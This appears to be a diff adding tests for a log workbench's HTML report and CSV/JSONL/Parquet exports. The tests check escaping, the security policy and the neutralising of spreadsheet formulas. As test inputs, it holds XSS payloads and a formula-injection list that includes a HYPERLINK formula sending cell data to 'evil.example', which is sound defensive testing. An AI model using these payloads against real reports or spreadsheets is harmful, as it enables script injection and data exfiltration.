@@ -1,0 +1,183 @@
+"""What leaves the workbench: the report holds log text as text only, and a spreadsheet runs no cell of an export."""
+
+import base64
+import csv
+import hashlib
+import json
+import os
+import re
+import time
+from dataclasses import replace
+from datetime import UTC, datetime
+from html.parser import HTMLParser
+from pathlib import Path
+
+import polars as pl
+import pytest
+
+from core import workbench
+from core.errors import WorkbenchError
+from core.report import Judgement, Message, Report, histogram, html_report, shown
+from core.workbench import reports
+from tests.builders import store_run
+
+HOSTILE = "</title><script>alert(1)</script><img src=x onerror=alert(2)>\"'&\x1b[31m\u202e"
+TAGS = {
+    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "p", "dl", "div", "dt", "dd", "svg", "rect",
+    "line", "text", "table", "thead", "tbody", "tr", "th", "td", "br", "span", "pre",
+}  # fmt: skip
+MESSAGE = Message(HOSTILE, 3, 0.9, HOSTILE, HOSTILE, HOSTILE, "2026-11-18 06:00:00", "2026-11-18 07:00:00")
+FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "＝1+1", "plain = text"]
+
+
+class Page(HTMLParser):
+    """Tags with their attributes, and the text outside of style."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.words = self.style = ""
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attributes)))
+
+    def handle_data(self, data: str) -> None:
+        if self.tags and self.tags[-1][0] == "style" and not self.style:
+            self.style = data
+        self.words += data
+
+
+def hostile_report() -> Report:
+    pair = [(HOSTILE, HOSTILE)]
+    return Report(
+        title=HOSTILE,
+        made=HOSTILE,
+        threshold=0.5,
+        facts=pair,
+        numbers=pair,
+        notes=[HOSTILE],
+        scores=[(0.1, 990), (0.5, 10)],
+        timeline=[(HOSTILE, 10, 1), ("b", 10, 2)],
+        timeline_title=HOSTILE,
+        messages=[replace(MESSAGE, first=HOSTILE)],
+        n_messages=7,
+        judgements=[Judgement(1, HOSTILE, 0.9, HOSTILE, HOSTILE, HOSTILE, HOSTILE)],
+        n_judgements=1,
+        settings=json.dumps({"read": HOSTILE}),
+    )
+
+
+def test_log_text_is_text_and_the_page_needs_nothing_beside_itself():
+    page = Page(html_report(hostile_report()))
+    assert {tag for tag, _ in page.tags} <= TAGS
+    attributes = {name for _, found in page.tags for name in found}
+    assert not any(name.startswith("on") or name in ("src", "href", "style", "srcdoc", "action") for name in attributes)
+    assert "url(" not in page.style and "@import" not in page.style
+    assert page.words.count("<script>alert(1)</script>") >= 15  # read as words by whoever reads the page
+    assert "\x1b" not in page.words and "\u202e" not in page.words
+    assert "\\x1b[31m\\u202e" in page.words
+
+
+def test_the_policy_allows_its_own_style_sheet_and_nothing_else():
+    page = Page(html_report(hostile_report()))
+    [policy] = [found["content"] for _, found in page.tags if found.get("http-equiv") == "Content-Security-Policy"]
+    digest = base64.b64encode(hashlib.sha256(page.style.encode()).digest()).decode()
+    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
+
+
+def test_long_texts_are_cut_and_it_says_so():
+    assert shown("a" * 599) == "a" * 599
+    assert shown("<" * 700) == "&lt;" * 600 + " … (100 characters more)"
+    page = Page(html_report(replace(hostile_report(), messages=[replace(MESSAGE, text="b" * 10_000)], n_messages=9)))
+    assert "b" * 601 not in page.words
+    assert "The first 1 of 9" in page.words
+
+
+def test_the_histogram_parts_the_lines_at_the_threshold():
+    page = Page(histogram([(0.0, 5), (0.111, 2), (0.113, 30), (1.0, 1)], threshold=0.112))
+    bars = [found["class"] for tag, found in page.tags if tag == "rect"]
+    titles = re.findall(r"(\d\.\d\d to \d\.\d\d: [\d,]+ lines)", page.words)
+    assert titles == [
+        "0.00 to 0.02: 5 lines",
+        "0.10 to 0.11: 2 lines",
+        "0.11 to 0.12: 30 lines",
+        "0.98 to 1.00: 1 lines",
+    ]
+    assert bars == ["normal", "normal", "flagged", "flagged"]
+    [svg] = [found for tag, found in page.tags if tag == "svg"]
+    assert svg["aria-label"] == "Lines by score; 31 at or above the threshold 0.1120"
+
+
+def test_the_report_tells_the_run_its_threshold_and_verdicts(home: Path, tmp_path: Path):
+    log = tmp_path / "auth.log"
+    log.write_text("scored\n")
+    digest = hashlib.sha256(log.read_bytes()).hexdigest()
+    os.utime(log, (1, 1))
+    lines = [("session opened 1", "session opened num", 0.1)] * 8 + [("root shell", "root shell", 0.9)] * 2
+    info = {"source_path": str(log), "learnt": {"created_utc": "2026-01-02T03:04:05Z", "data_sha256": "abc"}}
+    store_run("r1", lines, name="auth.log", **info)
+    workbench.set_threshold("r1", 0.7)
+    workbench.set_verdict("r1", [9], "abnormal", "seen <b>before</b>")
+    workbench.set_verdict("r1", [1, 10], "normal")
+    words = Page(workbench.report_html("r1")).words
+    for part in (
+        "Abnormal lines of auth.log", "Flagged lines2", "Share of lines20.00%", "Flagged messages1 of 2", "All 1, ",
+        "Lines judged3", "Flagged and judged abnormal1 of 2", "seen <b>before</b>", "SHA-256 of what it learntabc",
+        f"SHA-256 of the file{digest}Format", "2026-11-18 00:08:00",
+    ):  # fmt: skip
+        assert part in words, part
+    assert re.search(r"Threshold0\.7000, set by analyst 20\d\d-", words)
+    assert "Threshold of the model0.5000" in words
+    os.utime(log, (4e9, 4e9))
+    assert "has changed since it was scored" in workbench.report_html("r1")
+
+
+def test_a_spreadsheet_runs_no_cell_and_other_programs_get_the_text_itself(home: Path):
+    store_run("r1", [(raw, raw, 0.9) for raw in FORMULAS], name="=cmd.log")
+    path = workbench.export("r1", "all lines", ".csv")
+    assert path.name == "cmd.log-all-lines.csv"
+    with path.open(newline="") as file:
+        rows = list(csv.DictReader(file))
+    neutral = [f"'{text}" for text in FORMULAS[:-1]] + ["plain = text"]
+    assert [row["line"] for row in rows] == neutral
+    assert [row["template"] for row in rows] == neutral
+    assert [row["score"] for row in rows] == ["0.9"] * len(FORMULAS)
+    as_json = [json.loads(line) for line in workbench.export("r1", "all lines", ".jsonl").open()]
+    assert [row["line"] for row in as_json] == FORMULAS
+    assert pl.read_parquet(workbench.export("r1", "all lines", ".parquet"))["line"].to_list() == FORMULAS
+
+
+def test_flagged_lines_are_those_at_the_threshold_in_force(home: Path):
+    store_run("r1", [("a", "a", 0.2), ("", "", 0.0), ("b", "b", 0.6), ("c", "c", 0.9)])
+    columns = ["line_no", "score", "is_anomaly", "session", "template", "knn", "reason", "timestamp_utc", "line"]
+    rows = pl.read_csv(workbench.export("r1", "flagged lines", ".csv"))
+    assert rows.columns == columns
+    assert rows["line_no"].to_list() == [3, 4]
+    workbench.set_threshold("r1", 0.9)
+    assert pl.read_parquet(workbench.export("r1", "flagged lines", ".parquet"))["line_no"].to_list() == [4]
+    everything = pl.read_parquet(workbench.export("r1", "all lines", ".parquet"))
+    assert everything["is_anomaly"].to_list() == [0, 0, 0, 1]
+    assert everything["timestamp_utc"][0] == datetime(2026, 11, 18, tzinfo=UTC).replace(tzinfo=None)
+
+
+def test_exports_wait_a_day_and_nobody_guesses_their_place(home: Path):
+    store_run("r1", [("a", "a", 0.9)])
+    first = workbench.export("r1", "report", ".html")
+    assert workbench.exported(first.parent.name) == first
+    os.utime(first.parent, (time.time() - reports.KEPT_SECONDS - 1,) * 2)
+    second = workbench.export("r1", "report", ".html")
+    assert list((home / "exports").iterdir()) == [second.parent]
+    for token in (first.parent.name, "", "..", "../runs", "a" * 32):
+        with pytest.raises(WorkbenchError, match="no longer there"):
+            workbench.exported(token)
+
+
+@pytest.mark.parametrize(
+    ("what", "suffix"), [("report", ".csv"), ("all lines", ".html"), ("sessions", ".csv"), ("x", ".csv")]
+)
+def test_what_cannot_be_exported_is_refused_and_leaves_nothing(home: Path, what: str, suffix: str):
+    store_run("r1", [("a", "a", 0.9)])
+    with pytest.raises(WorkbenchError):
+        workbench.export("r1", what, suffix)
+    assert not list((home / "exports").glob("*"))
